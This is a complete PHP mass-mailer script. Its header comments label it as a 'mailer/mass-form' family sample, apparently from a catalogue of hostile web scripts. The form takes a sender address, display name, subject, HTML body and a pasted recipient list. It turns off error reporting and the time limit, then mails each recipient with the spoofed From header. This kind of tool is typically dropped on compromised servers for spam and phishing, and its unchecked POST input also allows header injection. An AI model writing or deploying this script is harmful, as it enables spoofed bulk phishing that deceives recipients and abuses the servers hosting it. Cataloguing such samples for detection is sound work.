<?php
// Family: mailer/mass-form
// Style: textarea mass-mail form
// Trait: recipient list from a POST textarea split on newlines and looped; From/Subject from POST
error_reporting(0);
set_time_limit(0);
if (isset($_POST['action']) && $_POST['action'] == 'send') {
	$from    = $_POST['from'];
	$realname = $_POST['realname'];
	$subject = stripslashes($_POST['subject']);
	$message = stripslashes($_POST['message']);
	$emails  = explode("\n", trim($_POST['emaillist']));
	$headers  = "From: $realname <$from>\r\n";
	$headers .= "MIME-Version: 1.0\r\n";
	$headers .= "Content-Type: text/html; charset=UTF-8\r\n";
	$i = 0;
	foreach ($emails as $to) {
		$to = trim($to);
		if ($to == '') continue;
		$i++;
		if (mail($to, $subject, $message, $headers)) {
			echo "$i => $to <font color=green>OK</font><br>";
		} else {
			echo "$i => $to <font color=red>FAIL</font><br>";
		}
		flush();
	}
}
?>
<html><head><title>Mass Mailer</title></head><body>
<form method="post">
From: <input name="from"> Name: <input name="realname"><br>
Subject: <input name="subject"><br>
<textarea name="message" rows=10 cols=60></textarea>
<textarea name="emaillist" rows=10 cols=30></textarea>
<input type="hidden" name="action" value="send"><input type="submit" value="Send">
</form></body></html>
